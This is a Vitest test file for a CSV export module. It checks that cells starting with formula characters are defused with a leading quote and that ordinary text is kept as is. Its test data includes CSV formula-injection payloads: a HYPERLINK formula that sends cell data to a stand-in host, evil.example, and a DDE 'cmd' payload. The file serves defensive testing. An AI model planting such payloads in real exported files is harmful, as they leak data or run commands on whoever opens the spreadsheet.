import { describe, expect, it } from "vitest";
import { csvField, csvLine } from "@/lib/progress/csv";
import { parseCsv } from "../helpers/csv";

// Candidate names, emails and unit titles are typed by people; a cell starting with one of
// these characters is read as a formula by Excel, LibreOffice and Google Sheets (CSV/formula
// injection: `=HYPERLINK(...)` can leak data or run commands when the export is opened).
const formulaStarts = ["=", "+", "-", "@", "\t", "\r"];

describe("progress CSV export cells", () => {
  it("defuses every cell a spreadsheet would read as a formula, keeping the text after a quote mark", () => {
    const payloads = [
      '=HYPERLINK("https://evil.example/?d="&A2,"Open")',
      "+cmd|' /C calc'!A0",
      "-2+3",
      "@SUM(A1:A9)",
      "\t=1+1",
      "\r=1+1",
    ];
    for (const value of payloads) {
      const [row] = parseCsv(csvLine(["Candidate", value]));
      expect(row, JSON.stringify(value)).toEqual(["Candidate", `'${value}`]);
    }
  });

  it("never writes a raw field that starts a formula", () => {
    for (const start of formulaStarts) {
      const field = csvField(`${start}x`);
      // A quoted field is unquoted by the spreadsheet first, so look inside the quotes.
      const content = field.startsWith('"') ? field.slice(1) : field;
      expect(
        formulaStarts.some((s) => content.startsWith(s)),
        JSON.stringify(field),
      ).toBe(false);
    }
  });

  it("leaves ordinary text as it is, quoting only commas, quotes and line breaks", () => {
    expect(csvField("Amira Khan")).toBe("Amira Khan");
    expect(csvField("candidate@northgate.example")).toBe("candidate@northgate.example");
    expect(csvField("45")).toBe("45");
    expect(csvField("Khan, Amira")).toBe('"Khan, Amira"');
    expect(csvField('Unit "A"')).toBe('"Unit ""A"""');
    expect(parseCsv(csvLine(["a\nb", "x=1", "3 points behind"]))).toEqual([["a\nb", "x=1", "3 points behind"]]);
  });
});
